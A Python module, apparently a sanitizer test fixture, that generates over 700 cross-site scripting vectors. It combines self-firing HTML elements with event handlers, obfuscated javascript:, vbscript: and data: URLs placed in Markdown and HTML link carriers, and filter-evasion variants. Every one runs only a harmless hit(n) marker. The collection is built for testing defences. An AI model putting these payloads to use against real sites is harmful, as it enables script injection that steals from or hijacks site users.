"""Texts that would run a script if anything let them: a written corpus, and what grows from it.

`vectors()` is a list of over 700; the script in number n is `hit(n)`, for a page to hear of.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from urllib.parse import quote

CORPUS = Path(__file__).parent / "data" / "xss.txt"
SIGNS = {"⏎": "\n", "⇥": "\t", "␀": "\0", "␣": "\u200b", "⌫": "\x0c", "␂": "\x02", "␃": "\x03"}
# Elements that fire by themselves or at a touch, and the events they fire.
FIRING = {
    "img src=x": ("onerror", "onload", "onloadstart"),
    "img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=": ("onload",),
    "svg": ("onload", "onclick", "onfocusin"),
    "body": ("onload", "onpageshow", "onfocus", "onresize", "onhashchange"),
    "video src=x controls": ("onerror", "onloadstart", "onplay"),
    "audio src=x autoplay": ("onerror", "onloadstart"),
    "iframe src=about:blank": ("onload",),
    "object data=x": ("onerror", "onload"),
    "embed src=x": ("onload", "onerror"),
    "script src=x": ("onerror", "onload"),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style": ("onload", "onerror"),
    "input autofocus": ("onfocus", "onblur", "oninput", "oninvalid"),
    "textarea autofocus": ("onfocus", "onselect"),
    "select autofocus": ("onfocus", "onchange"),
    "button": ("onclick", "onpointerdown", "onpointerover"),
    "details open": ("ontoggle",),
    "marquee": ("onstart", "onfinish", "onbounce"),
    "a href=x": ("onclick", "onmouseover", "onfocus", "onauxclick"),
    "p tabindex=1": ("onfocus", "onmouseenter", "onpointermove", "oncopy", "onpaste", "onwheel"),
    "h2 id=x": ("onclick", "onmousemove", "onanimationend", "ontransitionend"),
    "td": ("onclick", "ondblclick"),
    "li": ("oncontextmenu", "ondragstart", "ontouchstart", "onkeydown"),
    "code": ("onclick", "onbeforecopy"),
    "math": ("onclick",),
    "x": ("onclick", "onscroll", "onanimationstart", "onwebkitanimationstart"),
}
CARRIERS = (
    "[x]({})", "![x]({})", "[x](<{}>)", "[x][r]\n\n[r]: {}", "<{}>", "[^1]\n\n[^1]: [x]({})",
    '<a href="{}">x</a>', "<a href='{}'>x</a>", '<img src="{}">', '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>', '<button formaction="{}" form=f>x</button>',
    '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math href="{}">x</math>',
    '<meta http-equiv=refresh content="0;url={}">', '<area href="{}">', '<link rel=help href="{}">',
)  # fmt: skip


def _spellings(script: str) -> Iterator[str]:
    """The address `javascript:…` in ways a browser might still understand."""
    yield f"javascript:{script}"
    yield f"JaVaScRiPt:{script}"
    yield f" \x01\x0bjavascript:{script}"
    yield f"java\tscript:{script}"
    yield f"java\nscript:{script}"
    yield f"java&#x0A;script:{script}"
    yield f"java&Tab;script:{script}"
    yield f"javascript&colon;{script}"
    yield f"javascript&#58{script}"
    yield f"&#106;avascript:{script}"
    yield f"&#x0000006A;avascript:{script}"
    yield f"&#14;javascript:{script}"
    yield f"\u200bjavascript:{script}"
    yield f"\ufeffjavascript:{script}"
    yield f"\0javascript:{script}"
    yield f"%6Aavascript:{script}"
    yield f"javascript://%0a{script}"
    yield f"javascript:{quote(script)}"
    yield f"ｊavascript:{script}"
    yield f"vbscript:{script}"
    yield f"data:text/html,<script>{script}</script>"
    yield f"data:text/html,{quote(f'<script>{script}</script>')}"
    yield f"DATA:text/html;charset=utf-7,+ADw-script+AD4-{script}"


def _written() -> Iterator[str]:
    for line in CORPUS.read_text(encoding="utf-8").splitlines():
        if not line.startswith("## "):
            yield "".join(SIGNS.get(character, character) for character in line)


def _fired() -> Iterator[str]:
    for element, events in FIRING.items():
        for event in events:
            yield f"<{element} {event}=§>x"


def _carried() -> Iterator[str]:
    """Every spelling in three of the carriers, so that all meet all in turn."""
    for number, address in enumerate(_spellings("§")):
        for step in range(8):
            yield CARRIERS[(number * 3 + step * 5 + step // 4) % len(CARRIERS)].replace(
                "{}", address
            )


def _veiled() -> Iterator[str]:
    """The written ones once more behind what hides a tag from a careless filter."""
    for number, text in enumerate(_written()):
        match number % 4:
            case 0:
                yield text.replace("<", "<\u200b", 1) + text
            case 1:
                yield f"<a title='{html.escape(text)}'>" + text.upper()
            case 2:
                yield f"&lt;b&gt;{text}\n\n</p>{text}"
            case _:
                yield text.replace(" ", "/", 1).replace("=", "\t=\r\n", 1)


@cache
def vectors() -> tuple[str, ...]:
    """All of them, each with its own script: `hit(7)` in the one at place 7."""
    raw = [*_written(), *_fired(), *_carried(), *_veiled()]
    return tuple(_with_script(text, number) for number, text in enumerate(raw))


def _with_script(text: str, number: int) -> str:
    return text.replace("§", f"hit({number})").replace("{n}", str(number))
